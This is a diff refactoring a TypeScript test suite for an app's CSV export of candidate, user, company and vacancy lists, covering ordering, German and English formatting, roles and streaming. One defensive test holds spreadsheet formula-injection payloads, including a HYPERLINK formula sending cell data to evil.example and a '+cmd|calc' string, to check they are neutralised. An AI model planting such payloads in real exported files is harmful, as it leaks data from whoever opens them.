@@ -1,32 +1,17 @@
-import http from 'node:http';
-import { beforeAll, expect, it } from 'vitest';
+import { expect, it } from 'vitest';
 import { toApiDate } from '../../src/common/dates';
-import { asText, BOM, parseCsv, screenRows, startsLikeFormula } from './csv';
+import { asText, BOM, parseCsv, startsLikeFormula } from './csv';
+import { CALLS, CANDIDATES, exportScene, fetchExport, listOf, type Lang } from './export-scene';
 import { addUser, insertCandidates, insertCompany } from './fixtures';
-import { ADMIN, callPath, describeEachDatabase, type TestApi } from './harness';
+import { describeEachDatabase, type TestApi } from './harness';
 import { describeCall, unpaged, type ListCall } from './lists/calls';
-import { buildRecords, type ListRecords } from './lists/records';
-import { continueIds, insertKeyed } from './lists/write';
 
 /**
  * Issue 12, export: every list call answers `format=csv` with the records its unpaged JSON list gives, in the
  * same order, as the list screen shows them, in the caller's language.
  */
 
-type Lang = 'en' | 'de';
-const LANGUAGE = { en: 'english', de: 'german' } as const;
 const SEPARATOR = { en: ',', de: ';' };
-
-type Resource = keyof ReturnType<typeof screenRows>;
-
-const RESOURCE_OF: Partial<Record<ListCall['name'], Resource>> = {
-  userList: 'users',
-  userListByType: 'users',
-  companyManagementList: 'customers',
-  companyListByType: 'customers',
-  vacancyList: 'vacancies',
-  candidateList: 'candidates',
-};
 
 interface CsvAnswer {
   status: number;
@@ -35,13 +20,7 @@ interface CsvAnswer {
 }
 
 async function exportOf(api: TestApi, token: string, call: ListCall, lang: Lang): Promise<CsvAnswer> {
-  const url = new URL(callPath(call.name, call.params), api.baseUrl);
-  for (const [key, value] of Object.entries({ ...call.query, format: 'csv' }))
-    url.searchParams.set(key, value);
-  const response = await fetch(url, {
-    headers: { authorization: `Bearer ${token}`, 'accept-language': lang },
-    signal: AbortSignal.timeout(20_000),
-  });
+  const response = await fetchExport(api, token, call, lang, 'csv');
   // text() would drop the byte-order mark: the bytes are decoded as they came.
   const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
   return { status: response.status, headers: response.headers, text };
@@ -49,7 +28,7 @@ async function exportOf(api: TestApi, token: string, call: ListCall, lang: Lang)
 
 /** The export, checked to be the list's JSON rows as its screen shows them; its parsed data rows. */
 async function exportsAsListed(api: TestApi, token: string, call: ListCall, lang: Lang): Promise<string[][]> {
-  const resource = RESOURCE_OF[call.name] ?? expect.fail(`${call.name} is not a list`);
+  const { resource, screen } = listOf(call, lang);
   const file = await exportOf(api, token, call, lang);
   expect(file.status).toBe(200);
   expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
@@ -58,7 +37,6 @@ async function exportsAsListed(api: TestApi, token: string, call: ListCall, lang
   );
   expect(file.text.startsWith(BOM)).toBe(true);
   const rows = parseCsv(file.text.slice(BOM.length), SEPARATOR[lang]);
-  const screen = screenRows(LANGUAGE[lang])[resource];
   expect(rows[0]).toEqual(screen.header);
   const listed = await unpaged(api, token, call);
   expect(listed.status).toBe(200);
@@ -70,58 +48,23 @@ async function exportsAsListed(api: TestApi, token: string, call: ListCall, lang
   return data;
 }
 
-const CALLS: ListCall[] = [
-  { name: 'candidateList', params: { status: 'all' } },
-  { name: 'candidateList', params: { status: 'all' }, query: { ordering: '-created_at', search: 'müller' } },
-  {
-    name: 'candidateList',
-    params: { status: 'active' },
-    query: { vacancy__vacancy_company__company_name__icontains: 'gmbh', ordering: 'company_name' },
-  },
-  { name: 'candidateList', params: { status: 'inactive' }, query: { candidate_status: 'First_Interview' } },
-  { name: 'userList', query: { ordering: '-email' } },
-  { name: 'userListByType', params: { type: 'active' }, query: { search: 'ü' } },
-  { name: 'companyManagementList', query: { ordering: 'folder_id' } },
-  { name: 'companyListByType', params: { type: 'inactive' } },
-  { name: 'vacancyList', params: { type: 'all' }, query: { ordering: '-vacancy_quota' } },
-  { name: 'vacancyList', params: { type: 'active' }, query: { search: 'er', created_at_lte: '2024-05-31' } },
-];
-
-/** Several batches of the server's 100 rows, and more than a socket takes at once. */
-const CANDIDATES = 3_000;
-
 describeEachDatabase('a list exported as CSV', (api) => {
-  let admin = '';
-  let records: ListRecords;
-
-  beforeAll(async () => {
-    records = buildRecords({
-      companies: 6,
-      users: 40,
-      vacancies: 30,
-      candidates: CANDIDATES,
-      names: 40,
-      passwordHash: 'not used: these users never sign in',
-    });
-    await insertKeyed(api().db, records);
-    await continueIds(api().db, api().server.ctx.engine);
-    admin = await api().login(ADMIN.email, ADMIN.password);
-  });
+  const { admin, records, leaveMidway, readStreamed } = exportScene(api, 'csv');
 
   it.each(
     CALLS.flatMap((call) => (['en', 'de'] as const).map((lang) => [describeCall(call), lang, call] as const)),
   )(
     "%s [%s]: the file holds the list's records in its order, as its screen shows them",
     async (_title, lang, call) => {
-      const rows = await exportsAsListed(api(), admin, call, lang);
+      const rows = await exportsAsListed(api(), admin(), call, lang);
       expect(rows.length).toBeGreaterThan(0);
     },
   );
 
   it('German: semicolons, German headers and status words; English: commas; every text in quotes', async () => {
     const call: ListCall = { name: 'candidateList', params: { status: 'all' }, query: { search: 'Groß' } };
-    const german = await exportOf(api(), admin, call, 'de');
-    const english = await exportOf(api(), admin, call, 'en');
+    const german = await exportOf(api(), admin(), call, 'de');
+    const english = await exportOf(api(), admin(), call, 'en');
     const firstLine = (text: string) => text.slice(0, text.indexOf('\r\n'));
     expect(firstLine(german.text)).toBe(
       `${BOM}"Name";"E-Mail";"Telefon";"Stellentitel";"Firma";"Bewerbungsstatus";"Aktivstatus";"Beworben am"`,
@@ -138,7 +81,7 @@ describeEachDatabase('a list exported as CSV', (api) => {
   });
 
   it('writes dates as YYYY-MM-DD in English and DD.MM.YYYY in German, and quotes what needs quoting', async () => {
-    const vacancy = records.vacancies[0] ?? expect.fail('no vacancy');
+    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
     await insertCandidates(api(), vacancy.id, [
       {
         candidate_name: 'Doe, "Jay"; Jr.',
@@ -148,7 +91,7 @@ describeEachDatabase('a list exported as CSV', (api) => {
     ]);
     const call: ListCall = { name: 'candidateList', params: { status: 'all' }, query: { search: 'jay' } };
     for (const lang of ['en', 'de'] as const) {
-      const file = await exportOf(api(), admin, call, lang);
+      const file = await exportOf(api(), admin(), call, lang);
       expect(file.text).toContain('"Doe, ""Jay""; Jr."');
       const [, row] = parseCsv(file.text.slice(BOM.length), SEPARATOR[lang]);
       expect(row?.[0]).toBe('Doe, "Jay"; Jr.');
@@ -156,14 +99,14 @@ describeEachDatabase('a list exported as CSV', (api) => {
       expect(row?.at(-1)).toBe(lang === 'de' ? '07.03.2024' : '2024-03-07');
     }
     const vacancyList: ListCall = { name: 'vacancyList', params: { type: 'all' } };
-    const german = await exportOf(api(), admin, vacancyList, 'de');
+    const german = await exportOf(api(), admin(), vacancyList, 'de');
     expect(german.text).toContain(`;"${vacancy.vacancy_start_date.split('-').reverse().join('.')}";`);
-    const english = await exportOf(api(), admin, vacancyList, 'en');
+    const english = await exportOf(api(), admin(), vacancyList, 'en');
     expect(english.text).toContain(`,"${vacancy.vacancy_start_date}",`);
   });
 
   it('keeps a cell that starts like a formula as text, so that opening the file runs nothing', async () => {
-    const vacancy = records.vacancies[0] ?? expect.fail('no vacancy');
+    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
     const name = '=HYPERLINK("https://evil.example/?"&A1,"CV")';
     await insertCandidates(api(), vacancy.id, [
       {
@@ -178,14 +121,14 @@ describeEachDatabase('a list exported as CSV', (api) => {
       query: { search: 'hyperlink' },
     };
     for (const lang of ['en', 'de'] as const) {
-      const file = await exportOf(api(), admin, call, lang);
+      const file = await exportOf(api(), admin(), call, lang);
       const [, row] = parseCsv(file.text.slice(BOM.length), SEPARATOR[lang]);
       expect(row?.slice(0, 3)).toEqual([`'${name}`, "'@SUM(1+1)@evil.example", "'+49 30 1234567"]);
     }
   });
 
   it('keeps line breaks and either language’s separator inside one cell, and no piece of it a formula', async () => {
-    const vacancy = records.vacancies[0] ?? expect.fail('no vacancy');
+    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
     const names = [
       'Quokka Doe\n=1+1',
       'Quokka Cr\r+cmd|calc',
@@ -205,7 +148,7 @@ describeEachDatabase('a list exported as CSV', (api) => {
       query: { search: 'quokka', ordering: 'created_at' },
     };
     for (const lang of ['en', 'de'] as const) {
-      const file = await exportOf(api(), admin, call, lang);
+      const file = await exportOf(api(), admin(), call, lang);
       const text = file.text.slice(BOM.length);
       const [header, ...rows] = parseCsv(text, SEPARATOR[lang]);
       expect(rows).toHaveLength(names.length);
@@ -221,19 +164,19 @@ describeEachDatabase('a list exported as CSV', (api) => {
 
   it('ignores page and page_size: every matching record', async () => {
     const call: ListCall = { name: 'userList', query: { page: '2', page_size: '5' } };
-    const file = await exportOf(api(), admin, call, 'en');
+    const file = await exportOf(api(), admin(), call, 'en');
     const rows = parseCsv(file.text.slice(BOM.length), ',');
     // The administrator of the administration company comes with every installation.
-    expect(rows).toHaveLength(1 + records.users.length + 1);
+    expect(rows).toHaveLength(1 + records().users.length + 1);
   });
 
   it("keeps the list's role and company rules", async () => {
-    const company = records.companies[1] ?? expect.fail('no company');
-    const { token: customerAdmin } = await addUser(api(), admin, {
+    const company = records().companies[1] ?? expect.fail('no company');
+    const { token: customerAdmin } = await addUser(api(), admin(), {
       user_role: 'CustomerAdmin',
       company_uuid: company.company_uid,
     });
-    const { token: staff } = await addUser(api(), admin, {
+    const { token: staff } = await addUser(api(), admin(), {
       user_role: 'StaffAdmin',
       company_uuid: company.company_uid,
     });
@@ -258,21 +201,21 @@ describeEachDatabase('a list exported as CSV', (api) => {
       [acme, 'second@acme-export.example'],
       [twin, 'other@acme-export.example'],
     ] as const) {
-      await addUser(api(), admin, { user_role: 'StaffAdmin', company_uuid: company.company_uid, email });
+      await addUser(api(), admin(), { user_role: 'StaffAdmin', company_uuid: company.company_uid, email });
     }
     const of = (uid: string): ListCall => ({ name: 'userList', query: { company__company_uid: uid } });
-    const rows = await exportsAsListed(api(), admin, of(acme.company_uid), 'en');
+    const rows = await exportsAsListed(api(), admin(), of(acme.company_uid), 'en');
     expect(rows.map((row) => row[1]).sort()).toEqual([
       'first@acme-export.example',
       'second@acme-export.example',
     ]);
-    expect(await exportsAsListed(api(), admin, of('no-such-company'), 'en')).toEqual([]);
+    expect(await exportsAsListed(api(), admin(), of('no-such-company'), 'en')).toEqual([]);
   });
 
   it("refuses an unknown format in the caller's language", async () => {
     const call: ListCall = { name: 'candidateList', params: { status: 'all' }, query: { format: 'pdf' } };
     const answer = await api().call('GET', call.name, call.params, {
-      token: admin,
+      token: admin(),
       query: call.query,
       lang: 'de',
     });
@@ -281,58 +224,16 @@ describeEachDatabase('a list exported as CSV', (api) => {
   });
 
   it('gives back its download slot when the client leaves midway: more left exports than slots', async () => {
-    const url = new URL(`${callPath('candidateList', { status: 'all' })}?format=csv`, api().baseUrl);
-    const leaveMidway = () =>
-      new Promise<number>((resolve, reject) => {
-        const request = http.get(url, { headers: { authorization: `Bearer ${admin}` } }, (response) => {
-          response.once('data', () => {
-            request.destroy();
-            resolve(response.statusCode ?? 0);
-          });
-        });
-        request.on('error', (error) => (request.destroyed ? undefined : reject(error)));
-      });
     // Refused (503) only until the server has seen the last ones leave: a slot held per left export
     // would refuse every one from the third on, for good.
-    const untilServed = async (call: () => Promise<number>) => {
-      const deadline = Date.now() + 10_000;
-      let status = await call();
-      while (status === 503 && Date.now() < deadline) status = await call();
-      return status;
-    };
-    for (let left = 0; left < 12; left++) expect(await untilServed(leaveMidway)).toBe(200);
-    await untilServed(async () => (await exportOf(api(), admin, { name: 'userList' }, 'en')).status);
+    await leaveMidway(12);
     // exportsAsListed checks the file against the JSON list: every company, whatever other tests added.
-    const rows = await exportsAsListed(api(), admin, { name: 'companyManagementList' }, 'en');
-    expect(rows.length).toBeGreaterThan(records.companies.length);
+    const rows = await exportsAsListed(api(), admin(), { name: 'companyManagementList' }, 'en');
+    expect(rows.length).toBeGreaterThan(records().companies.length);
   });
 
   it('streams a large export: the first rows arrive before the client has read the rest', async () => {
-    const url = new URL(`${callPath('candidateList', { status: 'all' })}?format=csv`, api().baseUrl);
-    let text = '';
-    let paused: http.IncomingMessage | undefined;
-    const answer = await new Promise<http.IncomingMessage>((resolve, reject) => {
-      const request = http.get(url, { headers: { authorization: `Bearer ${admin}` } }, (response) => {
-        response.setEncoding('utf8');
-        response.on('data', (chunk: string) => {
-          text += chunk;
-          if (paused) return;
-          paused = response.pause();
-          resolve(response);
-        });
-        response.on('error', reject);
-      });
-      request.on('error', reject);
-    });
-    const atPause = text.length;
-    const ended = new Promise<void>((resolve) => answer.on('end', resolve));
-    answer.resume();
-    await ended;
-    // Sent as it is written: no length known in advance, and the client had a small part when it paused.
-    expect(answer.headers['transfer-encoding']).toBe('chunked');
-    expect(answer.headers['content-length']).toBeUndefined();
-    expect(atPause).toBeGreaterThan(0);
-    expect(atPause).toBeLessThan(text.length / 10);
+    const text = (await readStreamed()).toString('utf8');
     expect(text.startsWith(`${BOM}"Name","Email",`)).toBe(true);
     const rows = parseCsv(text.slice(BOM.length), ',');
     expect(rows.length - 1).toBeGreaterThanOrEqual(CANDIDATES);
